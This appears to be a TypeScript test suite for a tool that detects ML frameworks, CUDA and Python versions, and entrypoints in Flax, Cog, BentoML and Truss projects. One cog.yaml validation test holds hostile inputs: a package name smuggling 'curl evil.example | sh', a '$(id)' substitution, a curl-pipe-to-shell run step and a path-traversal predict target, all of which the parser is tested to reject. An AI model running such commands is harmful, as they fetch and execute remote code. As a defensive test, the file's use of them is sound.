// Detection on layouts modelled on real repositories: Flax examples (mnist, imagenet, wmt) and
// google-research/maxim, where TensorFlow only feeds data; Cog, BentoML and Truss projects; model
// libraries that imply PyTorch; wheel URLs.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  cudaFromTag,
  detect,
  detectProject,
  nodeFs,
  parseBentofile,
  parseCogYaml,
  parseNotebook,
  parsePythonSource,
  parseTrussConfig,
  parseWheelName,
  toReport,
  type DetectFs,
  type DetectionResult,
} from '../../../src/core/detect/index';
import { fixture, tempTree } from './helpers';

const names = (r: DetectionResult) => r.frameworks.map((f) => [f.name, f.version, f.role ?? null]);
const ev = (r: DetectionResult, name: string) => r.frameworks.find((f) => f.name === name)?.evidence ?? [];

describe('JAX/Flax projects that use TensorFlow for data', () => {
  test('flax examples/mnist: jax is primary; tensorflow (tfds, GPUs hidden from it) is a data dependency', async () => {
    const r = await detectProject(fixture('flax-mnist'));
    assert.deepEqual(names(r), [
      ['jax', '0.3.4', null],
      ['tensorflow', '2.8.1', 'data'],
    ]);
    assert.equal(r.primary, 'jax');
    // jaxlib==0.3.2+cuda11.cudnn82: jaxlib's own local version names the CUDA major.
    assert.equal(r.accelerator, 'gpu');
    assert.equal(r.cuda, '11');
    assert.deepEqual(ev(r, 'jax').slice(0, 3), [
      { file: 'requirements.txt', line: 3, reason: 'flax==0.4.1' },
      { file: 'requirements.txt', line: 4, reason: 'jax==0.3.4' },
      { file: 'requirements.txt', line: 6, reason: 'jaxlib==0.3.2+cuda11.cudnn82' },
    ]);
    // The data role is shown with the line that made it so.
    assert.deepEqual(ev(r, 'tensorflow').at(-1), { file: 'train.py', line: 7, reason: 'import tensorflow_datasets as tfds' });
    assert.deepEqual(r.warnings, ['tensorflow is used only around the model (train.py:7); jax builds and trains it (train.py:6): reporting jax as the framework']);
    // train_test.py builds a tf.keras model, but tests are not the project's model.
    assert.deepEqual(r.entrypoint, { file: 'main.py', kind: 'script' });
  });

  test('flax examples/imagenet: flax alone declares JAX; tf.data/tf.image pipeline; hiding GPUs from TF means a GPU project', async () => {
    const r = await detectProject(fixture('flax-imagenet'));
    assert.deepEqual(names(r), [
      ['jax', null, null],
      ['tensorflow', '2.7.0', 'data'],
    ]);
    assert.equal(r.primary, 'jax');
    assert.equal(r.accelerator, 'gpu');
    assert.equal(r.cuda, null);
    assert.deepEqual(ev(r, 'jax')[0], { file: 'requirements.txt', line: 3, reason: 'flax==0.3.6' });
  });

  test('flax examples/wmt: tensorflow-text and tf.io are data too; jaxlib +cuda110 is CUDA 11.0', async () => {
    const r = await detectProject(fixture('flax-wmt'));
    assert.deepEqual(names(r), [
      ['jax', '0.2.21', null],
      ['tensorflow', '2.7.1', 'data'],
    ]);
    assert.equal(r.cuda, '11.0');
  });

  test('google-research/maxim (cog.yaml): jax from the run step, flax model, tensorflow only reads checkpoints', async () => {
    const r = await detectProject(fixture('cog-maxim'));
    assert.deepEqual(names(r), [
      ['jax', null, null],
      ['tensorflow', '2.8.0', 'data'],
    ]);
    assert.equal(r.primary, 'jax');
    assert.equal(r.accelerator, 'gpu');
    assert.equal(r.cuda, '11.2');
    assert.equal(r.python, '3.8');
    assert.deepEqual(r.pythonEvidence, { file: 'cog.yaml', line: 4, reason: 'python_version: 3.8' });
    assert.deepEqual(r.entrypoint, { file: 'maxim/predict.py', kind: 'cog', object: 'Predictor' });
    // The run step's `pip install jax[...]` is read (never run) as a declaration.
    assert.ok(ev(r, 'jax').some((e) => e.file === 'cog.yaml' && e.line === 17 && e.reason === 'jax[cuda11_cudnn805]'), JSON.stringify(ev(r, 'jax')));
    assert.deepEqual(r.systemPackages, [
      { name: 'libgl1-mesa-glx', file: 'cog.yaml', line: 6 },
      { name: 'libglib2.0-0', file: 'cog.yaml', line: 7 },
    ]);
    assert.deepEqual(r.entrypoints?.map((e) => [e.file, e.kind]), [
      ['maxim/predict.py', 'cog'],
      ['maxim/run_eval.py', 'script'],
    ]);
  });

  test('PyTorch used only for a DataLoader next to a Flax model is a data dependency too', async () => {
    const r = await detectProject(
      tempTree({
        'requirements.txt': 'jax[cuda12]==0.4.30\nflax==0.8.5\ntorch==2.3.1\ntorchvision==0.18.1\n',
        'data.py': 'from torch.utils.data import DataLoader\nimport torchvision.transforms as T\n',
        'model.py': 'import flax.linen as nn\n\nclass MLP(nn.Module):\n    pass\n',
      }),
    );
    assert.deepEqual(names(r), [
      ['jax', '0.4.30', null],
      ['pytorch', '2.3.1', 'data'],
    ]);
    assert.equal(r.cuda, '12');
  });

  test('tensorflow-cpu next to a JAX model keeps TF off the GPU; it is not a CPU choice for the project', async () => {
    const r = await detectProject(
      tempTree({
        'requirements.txt': 'jax[cuda12]==0.4.30\nflax==0.8.5\ntensorflow-cpu==2.16.1\ntensorflow-datasets==4.9.6\n',
        'train.py': 'import optax\nimport tensorflow_datasets as tfds\n',
      }),
    );
    assert.deepEqual(names(r), [
      ['jax', '0.4.30', null],
      ['tensorflow', '2.16.1', 'data'],
    ]);
    assert.deepEqual([r.accelerator, r.cuda], ['gpu', '12']);
    assert.ok(!r.warnings.some((w) => w.includes('both CPU and GPU')), r.warnings.join('\n'));
  });

  test('two frameworks that both build models: no demotion, the usual order decides', async () => {
    const r = await detectProject(
      tempTree({
        'requirements.txt': 'torch==2.3.1\ntensorflow==2.16.1\n',
        'port.py': 'import torch\nimport tensorflow as tf\nnet = torch.nn.Linear(2, 2)\nkeras_model = tf.keras.Sequential([])\n',
      }),
    );
    assert.deepEqual(names(r), [
      ['pytorch', '2.3.1', null],
      ['tensorflow', '2.16.1', null],
    ]);
    assert.deepEqual(r.warnings, []);
  });

  test('no code seen: declarations alone never demote a framework', async () => {
    const r = await detectProject(tempTree({ 'requirements.txt': 'flax==0.8.5\ntensorflow==2.16.1\n' }));
    assert.deepEqual(names(r), [
      ['tensorflow', '2.16.1', null],
      ['jax', null, null],
    ]);
  });

  test('notebooks: an alias imported in one cell and used in another counts', () => {
    const nb = JSON.stringify({
      cells: [
        { cell_type: 'code', source: ['import tensorflow as tf\n', 'import optax\n'] },
        { cell_type: 'markdown', source: 'tf.keras is not used here' },
        { cell_type: 'code', source: 'ds = tf.data.Dataset.range(3)\n' },
      ],
    });
    const f = parseNotebook(nb, 'nb.ipynb');
    assert.deepEqual(
      f.usage?.map((u) => [u.framework, u.use, u.reason]),
      [
        ['jax', 'model', 'import optax (cell 1, line 2)'],
        ['tensorflow', 'data', 'ds = tf.data.Dataset.range(3) (cell 3, line 1)'],
      ],
    );
  });

  test('usage: aliases, from-imports and attribute chains; strings and comments do not count', () => {
    const f = parsePythonSource(
      [
        'import tensorflow.compat.v2 as tf2',
        'from torch import nn as tnn',
        'import jax',
        's = "tf2.keras.Model"  # tf2.GradientTape',
        'x = tf2.image.resize(img, [2, 2])',
        'ex = tf2.train.Example(features=tf2.train.Features(feature={}))',
        'g = jax.value_and_grad(loss)',
        'obj.tf2.keras.thing()',
      ].join('\n'),
      'm.py',
    );
    assert.deepEqual(
      f.usage?.map((u) => [u.framework, u.use, u.line]),
      [
        ['pytorch', 'model', 2],
        ['tensorflow', 'data', 5],
        ['jax', 'model', 7],
      ],
    );
    // TFRecord messages are data; a checkpoint of training state is the model.
    assert.deepEqual(parsePythonSource('import tensorflow as tf\nex = tf.train.Example()\n', 'a.py').usage?.map((u) => u.use), ['data']);
    assert.deepEqual(parsePythonSource('import tensorflow as tf\nck = tf.train.Checkpoint(model=m)\n', 'a.py').usage?.map((u) => u.use), ['model']);
  });
});

describe('Cog, BentoML and Truss projects', () => {
  test('Cog + diffusers: the predictor is the entrypoint, not samples.py, fid_score.py or download_weights.py', async () => {
    const r = await detectProject(fixture('cog-diffusers'));
    assert.deepEqual(names(r), [
      ['pytorch', '2.1.0', null],
      ['transformers', '4.39.3', null],
      ['diffusers', '0.27.2', null],
    ]);
    assert.equal(r.primary, 'pytorch');
    assert.equal(r.accelerator, 'gpu');
    assert.equal(r.cuda, '12.1');
    assert.equal(r.python, '3.11');
    assert.deepEqual(r.entrypoint, { file: 'predict.py', kind: 'cog', object: 'Predictor' });
    assert.deepEqual(r.entrypoints?.map((e) => [e.file, e.kind, e.line]), [
      ['predict.py', 'cog', 8],
      ['fid_score.py', 'script', 12],
      ['samples.py', 'script', 6],
      ['script/download_weights.py', 'script', 6],
    ]);
    // The wheel URL gives torch's version (and its +cu121 the CUDA build), with file:line.
    assert.deepEqual(ev(r, 'pytorch')[0], {
      file: 'requirements.txt',
      line: 1,
      reason: 'https://download.pytorch.org/whl/cu121/torch-2.1.0%2Bcu121-cp311-cp311-linux_x86_64.whl',
    });
    assert.ok(ev(r, 'pytorch').some((e) => e.file === 'requirements.txt' && e.line === 4 && e.reason === 'accelerate==0.28.0'));
    assert.ok(ev(r, 'pytorch').some((e) => e.reason === 'diffusers==0.27.2 (runs on PyTorch)'));
    // python_requirements is followed like `-r`; cog.yaml itself is a dependency file too.
    assert.deepEqual(r.dependencyFiles, [
      { file: 'cog.yaml', kind: 'cog' },
      { file: 'requirements.txt', kind: 'requirements' },
    ]);
    assert.deepEqual(r.systemPackages, [{ name: 'ffmpeg', file: 'cog.yaml', line: 7 }]);
    assert.deepEqual(r.warnings, []);
    // The JSON contract carries the entrypoint's object.
    assert.deepEqual(toReport(r).entrypoint, { file: 'predict.py', kind: 'cog', object: 'Predictor' });
  });

  test('BentoML: bentofile service, packages, python, CUDA and system packages; @bentoml.service asks for a GPU', async () => {
    const r = await detectProject(fixture('bentoml-service'));
    assert.deepEqual(names(r), [
      ['pytorch', '2.2.1', null],
      ['transformers', '4.38.2', null],
    ]);
    assert.deepEqual(r.entrypoint, { file: 'service.py', kind: 'bentoml', object: 'Summarization' });
    assert.equal(r.entrypoints?.[0]?.line, 9);
    assert.equal(r.python, '3.11');
    assert.equal(r.cuda, '12.1');
    assert.deepEqual(ev(r, 'pytorch'), [{ file: 'bentofile.yaml', line: 9, reason: 'torch==2.2.1' }]);
    assert.deepEqual(r.systemPackages?.map((s) => s.name), ['ffmpeg', 'libsndfile1']);
    assert.deepEqual(r.dependencyFiles, [{ file: 'bentofile.yaml', kind: 'bentoml' }]);
  });

  test('Truss: config.yaml model class, requirements, py311, accelerator, system packages', async () => {
    const r = await detectProject(fixture('truss-whisper'));
    assert.deepEqual(names(r), [['pytorch', '2.1.2', null]]);
    assert.deepEqual(r.entrypoint, { file: 'model/model.py', kind: 'truss', object: 'Model' });
    assert.equal(r.python, '3.11');
    assert.equal(r.accelerator, 'gpu');
    assert.deepEqual(r.systemPackages, [{ name: 'ffmpeg', file: 'config.yaml', line: 22 }]);
    assert.deepEqual(ev(r, 'pytorch'), [
      { file: 'config.yaml', line: 14, reason: 'torch==2.1.2' },
      { file: 'model/model.py', line: 4, reason: 'import torch' },
    ]);
  });

  test('older BentoML: `svc = bentoml.Service(...)`; the bentofile names it by module', async () => {
    const r = await detectProject(
      tempTree({
        'bentofile.yaml': 'service: "src.service:svc"\npython:\n  requirements_txt: "./requirements.txt"\n',
        'requirements.txt': 'scikit-learn==1.4.2\nbentoml==1.1.11\n',
        'src/service.py': 'import bentoml\n\nrunner = bentoml.sklearn.get("clf:latest").to_runner()\nsvc = bentoml.Service("clf", runners=[runner])\n',
      }),
    );
    assert.deepEqual(r.entrypoint, { file: 'src/service.py', kind: 'bentoml', object: 'svc' });
    assert.equal(r.entrypoints?.[0]?.line, 4);
    assert.equal(r.accelerator, 'cpu');
    assert.deepEqual(names(r), [['scikit-learn', '1.4.2', null]]);
  });

  test('cog.yaml is data: system packages are validated, entrypoints stay inside, gpu: false is a CPU choice', () => {
    const f = parseCogYaml(
      [
        'build:',
        '  gpu: false',
        '  python_version: "3.12"',
        '  system_packages:',
        '    - "ffmpeg; curl evil.example | sh"',
        '    - "libsm6"',
        '    - "$(id)"',
        '  run:',
        '    - command: apt-get update && python -m pip install --no-cache-dir -i https://pypi.example/simple "torch==2.3.1" && echo done',
        '    - curl -sSL https://example.com/x.sh | sh',
        'predict: "../../outside.py:Predictor"',
      ].join('\n'),
      'svc/cog.yaml',
    );
    assert.deepEqual(f.systemPackages, [{ name: 'libsm6', line: 6 }]);
    assert.deepEqual(f.hints, [{ cpu: true, reason: 'Cog build.gpu: false', line: 2 }]);
    assert.deepEqual(f.packages.map((p) => [p.name, p.version, p.line]), [['torch', '2.3.1', 9]]);
    assert.deepEqual(f.indexUrls, [{ url: 'https://pypi.example/simple', line: 9 }]);
    assert.deepEqual(f.entrypoints, []);
    assert.deepEqual(f.warnings, [
      'svc/cog.yaml:5: not a Debian package name, ignored',
      'svc/cog.yaml:7: not a Debian package name, ignored',
      "svc/cog.yaml:11: 'predict' does not name a Python file inside the project, ignored",
    ]);
    assert.equal(f.python?.version, '3.12');
    assert.equal(f.dependencyKind, 'cog');
  });

  test('a config.yaml that is not Truss (Hydra, an app) yields nothing, and a nested one is not even read', async () => {
    assert.deepEqual(parseTrussConfig('defaults:\n  - model: resnet\ntrainer:\n  max_epochs: 3\n', 'config.yaml').entrypoints, []);
    // A key only in a comment or nested is not a Truss key.
    const hydra = parseTrussConfig('# model_name: x\nexperiment:\n  model_name: resnet\n', 'config.yaml');
    assert.deepEqual([hydra.entrypoints, hydra.warnings, hydra.dependencyKind], [[], [], undefined]);
    const root = tempTree({
      'requirements.txt': 'torch==2.3.1\n',
      'conf/config.yaml': 'model_name: not-truss\n',
      'deploy/config.yaml': 'model_name: Whisper\nrequirements:\n  - openai-whisper\n',
      'deploy/model/model.py': 'class Model:\n    def predict(self, x):\n        return x\n',
    });
    const read: string[] = [];
    const fs: DetectFs = { ...nodeFs, readFile: (p, m) => (read.push(p), nodeFs.readFile(p, m)) };
    const r = await detect(fs, root);
    assert.ok(!read.some((p) => p.endsWith('conf/config.yaml')), 'a config.yaml without a model folder next to it is not read');
    assert.deepEqual(r.entrypoint, { file: 'deploy/model/model.py', kind: 'truss', object: 'Model' });
  });

  test('bentofile: extra index URLs and a service path with .py', () => {
    const f = parseBentofile(
      'service: "app/serve.py:svc"\npython:\n  extra_index_url:\n    - "https://download.pytorch.org/whl/cu118"\n    - "https://pypi.example/simple"\n  index_url: "https://mirror.example/simple"\n  packages: ["torch"]\n',
      'bentofile.yaml',
    );
    assert.deepEqual(f.entrypoints, [{ kind: 'bentoml', line: 1, target: 'app/serve.py', object: 'svc' }]);
    assert.deepEqual(f.indexUrls, [
      { url: 'https://mirror.example/simple', line: 6 },
      { url: 'https://download.pytorch.org/whl/cu118', line: 4 },
      { url: 'https://pypi.example/simple', line: 5 },
    ]);
  });
});

describe('libraries that imply PyTorch', () => {
  for (const [pkg, mod] of [
    ['ultralytics==8.2.0', 'from ultralytics import YOLO'],
    ['timm==1.0.3', 'import timm'],
    ['accelerate==0.30.1', 'from accelerate import Accelerator'],
    ['peft==0.11.1', 'from peft import LoraConfig'],
    ['lightning==2.2.5', 'import lightning as L'],
  ] as const) {
    test(`${pkg.split('==')[0]} → PyTorch, with file:line evidence`, async () => {
      const r = await detectProject(tempTree({ 'requirements.txt': `${pkg}\n`, 'train.py': `${mod}\n` }));
      assert.equal(r.primary, 'pytorch');
      assert.equal(r.accelerator, 'gpu');
      assert.deepEqual(ev(r, 'pytorch'), [
        { file: 'requirements.txt', line: 1, reason: pkg },
        { file: 'train.py', line: 1, reason: mod },
      ]);
      assert.equal(r.frameworks[0]!.version, null, 'their own version is not PyTorch’s');
      assert.deepEqual(r.warnings, []);
    });
  }

  test('vllm, sentence-transformers and diffusers stay frameworks of their own, and make PyTorch primary', async () => {
    const r = await detectProject(tempTree({ 'requirements.txt': 'vllm==0.4.2\n', 'serve.py': 'from vllm import LLM\n' }));
    assert.deepEqual(names(r), [
      ['pytorch', null, null],
      ['vllm', '0.4.2', null],
    ]);
    assert.deepEqual(ev(r, 'pytorch'), [
      { file: 'requirements.txt', line: 1, reason: 'vllm==0.4.2 (runs on PyTorch)' },
      { file: 'serve.py', line: 1, reason: 'from vllm import LLM (runs on PyTorch)' },
    ]);
  });
});

describe('wheel file names and jaxlib CUDA tags', () => {
  test('parseWheelName: distribution, version, local version, platform', () => {
    assert.deepEqual(parseWheelName('https://download.pytorch.org/whl/cu121/torch-2.1.0%2Bcu121-cp310-cp310-linux_x86_64.whl#sha256=abc'), {
      name: 'torch',
      version: '2.1.0',
      local: 'cu121',
      linux: true,
    });
    assert.deepEqual(parseWheelName('./wheels/flash_attn-2.5.8-1-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl'), { name: 'flash-attn', version: '2.5.8', linux: true });
    assert.deepEqual(parseWheelName('torch-2.1.0-cp311-cp311-win_amd64.whl'), { name: 'torch', version: '2.1.0', linux: false });
    assert.equal(parseWheelName('https://example.com/pkg.tar.gz'), null);
    assert.equal(parseWheelName('https://example.com/not-a-wheel.whl'), null);
    assert.equal(parseWheelName('https://example.com/%E0%A4%A.whl'), null);
  });

  test('a Windows-only wheel does not set the version the Linux image gets', async () => {
    const r = await detectProject(tempTree({ 'requirements.txt': 'https://example.com/torch-2.1.0-cp311-cp311-win_amd64.whl\ntorch\n' }));
    assert.deepEqual(names(r), [['pytorch', null, null]]);
  });

  test('cudaFromTag: torch and jaxlib spellings', () => {
    assert.deepEqual(
      ['cu121', 'cu92', 'cuda110', 'cuda111', 'cuda11.cudnn82', 'cuda12.cudnn89', 'cpu', 'cuda', 'rocm5.7'].map((t) => cudaFromTag(t)),
      ['12.1', '9.2', '11.0', '11.1', '11', '12', null, null, null],
    );
  });
});
